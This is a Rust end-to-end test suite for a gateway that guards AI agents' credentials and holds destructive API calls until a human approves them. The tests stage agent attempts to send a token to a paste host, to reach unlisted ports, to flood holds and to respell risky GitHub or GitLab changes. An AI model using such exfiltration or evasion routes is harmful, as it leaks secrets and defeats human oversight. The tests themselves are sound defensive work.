//! What an agent tries behind the gateway, and what honest work must not be mistaken for it.

use std::{
    io::{Read, Write},
    net::{SocketAddr, TcpListener, TcpStream},
    sync::{Arc, Mutex},
    thread,
};

use e2e::{
    curl::Curl,
    holdpoint::{Gateway, Holdpoint, PASSPHRASE},
    stage::Stage,
};
use serde_json::Value;

const BINARY: &str = env!("CARGO_BIN_EXE_holdpoint-under-test");
const PURPOSE: &str = "rest:*";
/// A credential in the shape of GitHub's; it opens nothing.
const REAL: &str = "ghp_16C7e42F292c6912E7710c838347Ae178B4a";

/// An upstream without TLS that answers everything with `ok` and keeps what arrived.
struct Upstream {
    addr: SocketAddr,
    arrived: Arc<Mutex<Vec<String>>>,
}

impl Upstream {
    fn start() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let addr = listener.local_addr().unwrap();
        let arrived = Arc::new(Mutex::new(Vec::new()));
        let kept = Arc::clone(&arrived);
        thread::spawn(move || {
            for client in listener.incoming().flatten() {
                answer(client, |message| kept.lock().unwrap().push(message));
            }
        });
        Self { addr, arrived }
    }

    fn arrived(&self) -> Vec<String> {
        self.arrived.lock().unwrap().clone()
    }
}

/// Reads one request to its end, keeps it, and then answers it.
fn answer(mut client: TcpStream, keep: impl FnOnce(String)) -> Option<()> {
    let mut read = Vec::new();
    let mut chunk = [0; 4096];
    loop {
        let text = String::from_utf8_lossy(&read).into_owned();
        if let Some((head, body)) = text.split_once("\r\n\r\n") {
            let length = head.lines().find_map(|line| {
                let (name, value) = line.split_once(':')?;
                name.eq_ignore_ascii_case("content-length").then(|| value.trim().parse().unwrap())
            });
            if body.len() >= length.unwrap_or(0) {
                keep(text);
                let ok = b"HTTP/1.1 200 OK\r\nConnection: close\r\nContent-Length: 2\r\n\r\nok";
                return client.write_all(ok).ok();
            }
        }
        match client.read(&mut chunk).ok()? {
            0 => return None,
            count => read.extend_from_slice(&chunk[..count]),
        }
    }
}

/// A gateway before an upstream that answers for several hosts.
struct Scene {
    upstream: Upstream,
    holdpoint: Holdpoint,
    _gateway: Gateway,
}

impl Scene {
    /// `places` are `HOST:PORT`.
    fn set(places: &[&str]) -> Self {
        let upstream = Upstream::start();
        let holdpoint = Holdpoint::new(BINARY);
        let configuration = "[hold]\nwait_seconds = 0\n";
        std::fs::write(holdpoint.state().join("holdpoint.toml"), configuration).unwrap();
        let resolve: Vec<String> =
            places.iter().map(|place| format!("{place}:{}", upstream.addr)).collect();
        let arguments: Vec<&str> =
            resolve.iter().flat_map(|resolve| ["--resolve", resolve.as_str()]).collect();
        let gateway = holdpoint.up(&arguments, &[]);
        Self { upstream, holdpoint, _gateway: gateway }
    }

    fn agent(&self) -> Curl {
        Curl::new(&self.holdpoint.json(&["agents", "new", "agent", "--json"]))
    }

    /// The phantom of [`REAL`], bound to `host`.
    fn phantom(&self, host: &str) -> String {
        let arguments = ["secrets", "add", "real", "--host", host, "--purpose", PURPOSE, "--json"];
        let added = self.holdpoint.call_with(&arguments, REAL);
        assert_eq!(added.status, 0, "{}", added.stderr);
        added.json()["phantom"].as_str().unwrap().to_owned()
    }
}

/// An agent that reads its own environment has its phantoms in the conversation from then on.
/// There they are worth nothing, and a model that refuses to hear of them would end every run.
#[test]
fn a_phantom_in_a_prompt_stops_nobody_and_elsewhere_it_does_not_leave() {
    let scene = Scene::set(&["api.anthropic.com:80", "paste.example.test:80"]);
    scene.holdpoint.json(&["hosts", "add", "paste.example.test", "--json"]);
    let phantom = scene.phantom("api.example.test");
    let agent = scene.agent();
    let prompt = format!(r#"{{"messages":[{{"role":"user","content":"TOKEN={phantom}"}}]}}"#);
    let json = "Content-Type: application/json";

    let asked = agent.run(&["http://api.anthropic.com/v1/messages", "-H", json, "-d", &prompt]);
    assert_eq!((asked.status, asked.body.as_str()), (200, "ok"), "{asked:?}");
    let pasted = agent.run(&["http://paste.example.test/notes", "-H", json, "-d", &prompt]);
    assert_eq!((pasted.status, pasted.code().as_str()), (403, "phantom_leaving"), "{pasted:?}");
    assert_eq!(scene.upstream.arrived().len(), 1);
}

/// A grant names hosts. Which port, and whether anybody on the way can read along, is the
/// agent's choice unless somebody says otherwise.
#[test]
fn a_secret_leaves_over_tls_or_to_a_port_that_a_human_listed() {
    let scene = Scene::set(&["api.example.test:80", "api.example.test:8080"]);
    let phantom = scene.phantom("api.example.test");
    scene.holdpoint.json(&["hosts", "add", "api.example.test", "--json"]);
    let agent = scene.agent();
    let authorization = format!("Authorization: Bearer {phantom}");
    for url in ["http://api.example.test/", "http://api.example.test:8080/"] {
        let sent = agent.run(&[url, "-H", &authorization]);
        assert_eq!((sent.status, sent.code().as_str()), (403, "phantom_leaving"), "{sent:?}");
    }
    assert_eq!(scene.upstream.arrived(), [""; 0]);

    scene.holdpoint.json(&["hosts", "add", "api.example.test", "--port", "8080", "--json"]);
    let sent = agent.run(&["http://api.example.test:8080/", "-H", &authorization]);
    assert_eq!(sent.status, 200, "{sent:?}");
    let [arrived] = scene.upstream.arrived().try_into().unwrap();
    assert!(arrived.contains(REAL), "{arrived}");
    let elsewhere = agent.run(&["http://api.example.test/", "-H", &authorization]);
    assert_eq!(elsewhere.status, 403, "{elsewhere:?}");
}

/// Railway with a held deletion of a domain: the stage, the agent's client, the phantom, the
/// mutation, and the hold.
async fn held() -> (Stage, Curl, String, String, String) {
    let stage = Stage::set(BINARY, "[hold]\nwait_seconds = 0\n").await;
    let domain = stage.railway.add_domain("book.example.com").unwrap();
    let phantom = stage.phantom("railway-domains", "railway:customDomain*");
    let enrolled = stage.holdpoint.call_with(&["approvers", "enrol", "ada"], PASSPHRASE);
    assert_eq!(enrolled.status, 0, "{}", enrolled.stderr);
    let agent = stage.agent("domains");
    let mutation = format!("mutation {{ customDomainDelete(id: \"{domain}\") }}");
    let answer = agent.railway(&phantom, &mutation);
    assert_eq!(answer.status, 428, "{answer:?}");
    let hold = answer.json()["errors"][0]["extensions"]["hold"].as_str().unwrap().to_owned();
    (stage, agent, domain, phantom, hold)
}

fn approve(holdpoint: &Holdpoint, hold: &str, name: &str) {
    let approved = holdpoint.call_with(&["approve", hold, "--name", name], PASSPHRASE);
    assert_eq!(approved.status, 0, "{}", approved.stderr);
}

/// The state in which a released hold ends.
fn ended(holdpoint: &Holdpoint, hold: &str) -> String {
    for _ in 0..200 {
        let shown = holdpoint.json(&["holds", hold, "--json"]);
        let state = shown["state"].as_str().unwrap();
        if !["open", "approved", "consuming"].contains(&state) {
            return state.to_owned();
        }
        thread::sleep(std::time::Duration::from_millis(50));
    }
    panic!("{hold} never ends");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_release_that_reached_nobody_is_not_done() {
    let (stage, _agent, domain, _phantom, hold) = held().await;
    let Stage { railway, holdpoint, gateway: _gateway, .. } = stage;
    drop(railway);
    approve(&holdpoint, &hold, &domain);
    assert_eq!(ended(&holdpoint, &hold), "void");
}

#[tokio::test(flavor = "multi_thread")]
async fn who_released_it_is_in_the_ledger_before_it_happens() {
    let (stage, _agent, domain, _phantom, hold) = held().await;
    approve(&stage.holdpoint, &hold, &domain);
    assert_eq!(ended(&stage.holdpoint, &hold), "done");
    assert_eq!(stage.gateway.stop(), 0);
    let shown = stage.holdpoint.json(&["ledger", "show", "--json"]);
    let records: Vec<&Value> = shown.as_array().unwrap().iter().collect();
    let index_of = |is: &dyn Fn(&Value) -> bool| {
        let found = records.iter().find(|shown| is(&shown["record"]));
        found.unwrap_or_else(|| panic!("{records:#?}"))["index"].as_u64()
    };
    let approved =
        index_of(&|record| record["hold"] == hold.as_str() && record["approver"] == "ada");
    let executed =
        index_of(&|record| record["hold"] == hold.as_str() && record["forwarded"] == true);
    assert!(approved < executed, "{records:#?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn what_an_agent_asked_is_not_done_for_its_namesake() {
    let (stage, _agent, domain, _phantom, hold) = held().await;
    assert_eq!(stage.holdpoint.call(&["agents", "remove", "domains"]).status, 0);
    stage.agent("domains");
    approve(&stage.holdpoint, &hold, &domain);
    assert_eq!(ended(&stage.holdpoint, &hold), "void");
    assert!(stage.railway.domain_exists(&domain));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_killed_run_gets_no_stored_answer() {
    let (stage, agent, domain, _phantom, hold) = held().await;
    approve(&stage.holdpoint, &hold, &domain);
    assert_eq!(ended(&stage.holdpoint, &hold), "done");
    let url = format!("http://holdpoint.internal/holds/{hold}");
    assert_eq!(agent.run(&[&url]).status, 200);
    let other = stage.agent("other").run(&[&url]);
    assert_eq!(other.status, 403, "{other:?}");
    assert_eq!(stage.holdpoint.call(&["agents", "kill", "domains"]).status, 0);
    let killed = agent.run(&[&url]);
    assert_eq!((killed.status, killed.code().as_str()), (403, "killed"), "{killed:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn one_agent_does_not_bury_the_holds_of_another() {
    let configuration = "[hold]\nwait_seconds = 0\n[limits]\nholds_open_each = 2\n";
    let stage = Stage::set(BINARY, configuration).await;
    let phantom = stage.phantom("railway-domains", "railway:customDomain*");
    let flooder = stage.agent("flooder");
    let delete = |id: u8| format!("mutation {{ customDomainDelete(id: \"{id}\") }}");
    for (id, status) in [(1, 428), (2, 428), (3, 403), (1, 428)] {
        let answer = flooder.railway(&phantom, &delete(id));
        assert_eq!(answer.status, status, "{id} {answer:?}");
    }
    let other = stage.agent("other").railway(&phantom, &delete(1));
    assert_eq!(other.status, 428, "{other:?}");
    assert_eq!(stage.holdpoint.json(&["holds", "--json"]).as_array().unwrap().len(), 3);
}

/// Whoever reads the comment would read the secret.
#[test]
fn a_phantom_in_content_stays_one() {
    let scene = Scene::set(&["api.example.test:8080"]);
    let phantom = scene.phantom("api.example.test");
    let arguments = ["hosts", "add", "api.example.test", "--port", "8080", "--json"];
    scene.holdpoint.json(&[&arguments[..], &["--environment", "staging"]].concat());
    let agent = scene.agent();
    let url = "http://api.example.test:8080/comments";
    let authorization = format!("Authorization: Bearer {phantom}");
    let json = "Content-Type: application/json";
    let text = format!(r#"{{"text":"{phantom}","n":1}}"#);
    for arguments in [
        vec![url, "-H", json, "-d", &text],
        vec![url, "-d", &format!("text={phantom}")],
        vec![&format!("{url}/{phantom}")],
        vec![&format!("{url}?q={phantom}")],
        vec![url, "-H", &format!("X-Note: {phantom}")],
    ] {
        assert_eq!(agent.run(&arguments).status, 200, "{arguments:?}");
    }
    let arrived = scene.upstream.arrived();
    assert_eq!(arrived.len(), 5);
    let random = REAL.trim_start_matches("ghp_");
    assert!(arrived.iter().all(|message| !message.contains(random)), "{arrived:#?}");

    // Where credentials go it is still replaced, beside the one in the text too.
    agent.run(&[url, "-H", &authorization, "-H", json, "-d", &text]);
    let both = scene.upstream.arrived().pop().unwrap();
    assert!(both.contains(&format!("Bearer {REAL}")) && both.contains(&text), "{both}");
}

/// What git and most clients send: a name that anybody may know, and the token as password.
#[test]
fn a_name_beside_a_phantom_is_no_foreign_credential() {
    let scene = Scene::set(&["api.example.test:8080"]);
    let phantom = scene.phantom("api.example.test");
    scene.holdpoint.json(&["hosts", "add", "api.example.test", "--port", "8080", "--json"]);
    let agent = scene.agent();
    for (user, status) in [
        ("x-access-token", 200),
        ("ada1815@example.com", 200),
        ("ghp_26C7e42F292c6912E7710c838347Ae178B4b", 403),
        ("0197c2f1-6d0a-7d52-9b0e-2f3f0c0a9e11", 403),
    ] {
        let pair = format!("{user}:{phantom}");
        let answer = agent.run(&["http://api.example.test:8080/", "-u", &pair]);
        assert_eq!(answer.status, status, "{user}: {answer:?}");
    }
}

/// Codex sends one with every prompt.
#[test]
fn the_name_of_a_prompt_in_a_cache_is_no_credential() {
    let scene = Scene::set(&["api.openai.com:80"]);
    let prompt =
        r#"{"input":"hi","prompt_cache_key":"0197c2f1-6d0a-7d52-9b0e-2f3f0c0a9e11","model":"x"}"#;
    let json = "Content-Type: application/json";
    let url = "http://api.openai.com/v1/responses";
    let asked = scene.agent().run(&[url, "-H", json, "-d", prompt]);
    assert_eq!(asked.status, 200, "{asked:?}");
}

/// One change has several spellings that its server takes for the same.
#[test]
fn another_spelling_of_a_change_is_the_same_change() {
    let form = "application/x-www-form-urlencoded";
    let bytes = "application/octet-stream";
    let by_number = "https://api.github.com/repositories/1296269";
    let episodes: String = [
        ("PATCH", "https://api.github.com/repos/o/r", form, r#"{"private":false}"#),
        ("PATCH", "https://api.github.com/repos/o/r", bytes, r#"{"private":false}"#),
        ("PATCH", "https://api.github.com/repos/o/r/git/refs/heads/x", form, r#"{"force":true}"#),
        ("PATCH", by_number, "application/json", r#"{"private":false}"#),
        ("PUT", &format!("{by_number}/pulls/5/merge"), "application/json", "{}"),
        ("PUT", "https://gitlab.com/api/v4/projects/1?visibility=public", form, ""),
        ("POST", "https://gitlab.com/api/v4/projects/1/repository/commits?force=true", form, ""),
    ]
    .into_iter()
    .map(|(method, url, media, body)| {
        let headers = serde_json::json!({ "Content-Type": media });
        let operation = serde_json::json!({
            "kind": "http", "method": method, "url": url, "headers": headers, "body": body,
        });
        format!("{}\n", serde_json::json!({ "id": url, "operations": [operation] }))
    })
    .collect();
    let explained = Holdpoint::new(BINARY).call_with(&["explain", "--batch", "-"], &episodes);
    let verdicts: Vec<Value> =
        explained.stdout.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    assert_eq!(verdicts.len(), 7);
    assert!(verdicts.iter().all(|verdict| verdict["verdict"] == "hold"), "{verdicts:#?}");
}
